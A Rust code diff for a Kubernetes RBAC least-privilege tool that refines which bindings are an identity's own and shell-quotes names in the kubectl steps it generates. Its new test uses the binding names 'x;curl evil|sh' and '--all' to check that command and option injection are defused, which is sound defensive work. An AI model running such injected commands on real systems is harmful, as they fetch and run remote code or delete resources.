@@ -1,7 +1,7 @@
 //! Right-sized access as roles and bindings.
 //!
 //! A proposal takes the place of all bindings that name an identity itself. Bindings of groups that it is in by being what
-//! it is, such as all service accounts of a namespace, are not its own and go on granting.
+//! it is, such as all service accounts of a namespace, are not its own and go on granting; so does one that names both.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::fmt::Write as _;
@@ -12,11 +12,12 @@ use evenhand_model::catalog::Catalog as _;
 use evenhand_model::glob::Glob;
 use evenhand_model::id::IdentityId;
 use evenhand_model::opset::OpSet;
-use evenhand_model::proposal::{Kept, LeftOut, NoProposal, Proposal, ProposedFile, Proposes};
+use evenhand_model::proposal::{Kept, LeftOut, NoProposal, Proposal, ProposedFile, Proposes, quoted};
 use evenhand_model::scope::Pattern;
 
+use super::sets::general_group;
 use super::{Actor, Compiled, Known, Resolver};
-use crate::rbac::{Binding, account_user, applies_to};
+use crate::rbac::{Binding, Metadata, account_groups, account_user, applies_to};
 
 const API: &str = "rbac.authorization.k8s.io";
 
@@ -70,7 +71,7 @@ impl Proposes for Resolver {
         let file = format!("{}.rbac.yaml", subject.short);
         let mut steps = Vec::new();
         if !text.is_empty() {
-            steps.push(format!("kubectl apply -f {file}"));
+            steps.push(format!("kubectl apply -f {}", quoted(&file)));
         }
         steps.extend(own_bindings(cluster, known).map(|(binding, _)| unbound(binding, &subject)));
         let files = if text.is_empty() { Vec::new() } else { vec![ProposedFile { name: file, text }] };
@@ -88,35 +89,55 @@ fn own_bindings<'c>(cluster: &'c Compiled, known: &'c Known) -> impl Iterator<It
     })
 }
 
-/// Whether a binding names an identity itself.
+/// Whether a binding names an identity itself, and none of the groups that it is in whatever is done about it: with its
+/// name taken out, such a binding would go on granting.
 fn names(binding: &Binding, actor: &Actor) -> bool {
     let home = &binding.metadata.namespace;
-    match actor {
+    let group = |subject: &crate::rbac::Subject, name: &str| &*subject.kind == "Group" && &*subject.name == name;
+    let (named, groups) = match actor {
         Actor::Account(namespace, name) => {
-            applies_to(&binding.subjects, &account_user(namespace, name), &[], home).is_some()
+            let user = account_user(namespace, name);
+            (applies_to(&binding.subjects, &user, &[], home).is_some(), account_groups(namespace).to_vec())
         }
-        Actor::User(name) => applies_to(&binding.subjects, name, &[], home).is_some(),
-        Actor::Group(name) => binding.subjects.iter().any(|subject| &*subject.kind == "Group" && subject.name == *name),
-        Actor::HolderOf(_) => false,
-    }
+        Actor::User(name) => {
+            (applies_to(&binding.subjects, name, &[], home).is_some(), vec![Arc::from(general_group(name))])
+        }
+        Actor::Group(name) => {
+            let general = Some(general_group(name)).filter(|general| **general != **name);
+            (
+                binding.subjects.iter().any(|subject| group(subject, name)),
+                general.map(Arc::<str>::from).into_iter().collect(),
+            )
+        }
+        Actor::HolderOf(_) => return false,
+    };
+    named && !binding.subjects.iter().any(|subject| groups.iter().any(|held: &Arc<str>| group(subject, held)))
 }
 
 /// How a binding is taken away from a subject.
 fn unbound(binding: &Binding, subject: &Subject) -> String {
     let meta = &binding.metadata;
-    let (kind, place) = match meta.namespace.is_empty() {
-        true => ("ClusterRoleBinding", String::new()),
-        false => ("RoleBinding", format!(" -n {}", meta.namespace)),
-    };
+    let kind = if meta.namespace.is_empty() { "ClusterRoleBinding" } else { "RoleBinding" };
+    let command = object(&kind.to_lowercase(), meta);
     match binding.subjects.len() {
-        1 => format!("kubectl delete {} {}{place}", kind.to_lowercase(), meta.name),
-        _ => format!(
-            "take the subject {} out of {kind} {} (kubectl edit {} {}{place})",
-            subject.words,
-            meta.name,
-            kind.to_lowercase(),
-            meta.name
-        ),
+        1 => format!("kubectl delete {command}"),
+        _ => {
+            let name = quoted(&meta.name);
+            format!("take the subject {} out of {kind} {name} (kubectl edit {command})", subject.words)
+        }
+    }
+}
+
+/// An object as an argument of a command. A name of RBAC may be anything but a path, and begin like an option.
+fn object(kind: &str, meta: &Metadata) -> String {
+    let name = quoted(&meta.name);
+    let place = match meta.namespace.is_empty() {
+        true => String::new(),
+        false => format!(" -n {}", quoted(&meta.namespace)),
+    };
+    match meta.name.starts_with('-') {
+        true => format!("{kind}{place} -- {name}"),
+        false => format!("{kind} {name}{place}"),
     }
 }
 
@@ -270,9 +291,10 @@ impl Subject {
         let plain = |c: char| if c.is_ascii_alphanumeric() || matches!(c, '-' | '.') { c } else { '-' };
         let short: String = name.chars().map(plain).collect();
         let (before, words) = match namespace.is_empty() {
-            true => (String::new(), format!("{kind} {name}")),
+            true => (String::new(), format!("{kind} {}", quoted(&name))),
             false => {
-                (format!("{}-", namespace.chars().map(plain).collect::<String>()), format!("{kind} {namespace}/{name}"))
+                let before: String = namespace.chars().map(plain).collect();
+                (format!("{before}-"), format!("{kind} {}", quoted(&format!("{namespace}/{name}"))))
             }
         };
         Some(Self { kind, short: format!("{before}{short}"), namespace, name, words })
@@ -326,7 +348,67 @@ fn scalar(text: &str) -> String {
 
 #[cfg(test)]
 mod tests {
+    use serde_json::json;
+
     use super::*;
+    use crate::tests::{document, read_all};
+
+    #[test]
+    fn bindings_that_also_name_a_group_of_the_account_go_on_granting_and_names_are_words_of_a_command() {
+        let account = json!({"kind": "ServiceAccount", "name": "x", "namespace": "a"});
+        let group = |name: &str| json!({"kind": "Group", "name": name});
+        let mut items =
+            vec![json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "x", "namespace": "a"}})];
+        for (name, home, resource, other) in [
+            ("shared", "", "pods", Some(json!({"kind": "User", "name": "ann"}))),
+            ("sre", "", "services", Some(group("sre"))),
+            ("both", "", "secrets", Some(group("system:serviceaccounts:a"))),
+            ("all", "", "configmaps", Some(group("system:serviceaccounts"))),
+            ("everybody", "a", "endpoints", Some(group("system:authenticated"))),
+            ("elsewhere", "", "events", Some(group("system:serviceaccounts:b"))),
+            ("x;curl evil|sh", "", "nodes", None),
+            ("--all", "a", "limitranges", None),
+        ] {
+            let api = format!("{API}/v1");
+            let kind = if home.is_empty() { "ClusterRoleBinding" } else { "RoleBinding" };
+            let subjects: Vec<_> = [account.clone()].into_iter().chain(other).collect();
+            items.push(json!({
+                "apiVersion": api, "kind": "ClusterRole", "metadata": {"name": resource},
+                "rules": [{"apiGroups": [""], "resources": [resource], "verbs": ["get"]}],
+            }));
+            items.push(json!({
+                "apiVersion": api, "kind": kind, "metadata": {"name": name, "namespace": home},
+                "roleRef": {"kind": "ClusterRole", "name": resource}, "subjects": subjects,
+            }));
+        }
+        let text = json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string();
+        let (reading, errors) = read_all(vec![document("k8s/c/all.json", &text)], &[]);
+        assert_eq!(errors, []);
+        let resolver = reading.resolver.expect("a resolver");
+        let proposer = resolver.proposer().expect("a proposer");
+        let id = IdentityId::from("kubernetes:c:serviceaccount:a/x");
+        let mut steps = proposer.propose(&id, &[]).unwrap().steps;
+        steps.sort();
+        assert_eq!(
+            steps,
+            [
+                "kubectl delete clusterrolebinding 'x;curl evil|sh'",
+                "kubectl delete rolebinding -n a -- --all",
+                "take the subject ServiceAccount a/x out of ClusterRoleBinding elsewhere (kubectl edit \
+                 clusterrolebinding elsewhere)",
+                "take the subject ServiceAccount a/x out of ClusterRoleBinding shared (kubectl edit clusterrolebinding \
+                 shared)",
+                "take the subject ServiceAccount a/x out of ClusterRoleBinding sre (kubectl edit clusterrolebinding sre)",
+            ]
+        );
+        let access = resolver.access(&id).unwrap();
+        assert!(!access.slices().is_empty());
+        for slice in access.slices() {
+            let policy = resolver.grant(slice.grant).policy;
+            let own = [" shared", " sre", " elsewhere", "|sh", "/--all"].iter().any(|name| policy.ends_with(name));
+            assert_eq!(proposer.is_replaced(&id, slice.grant), own, "{policy}");
+        }
+    }
 
     #[test]
     fn names_of_operations_are_taken_apart_as_the_catalogue_writes_them() {
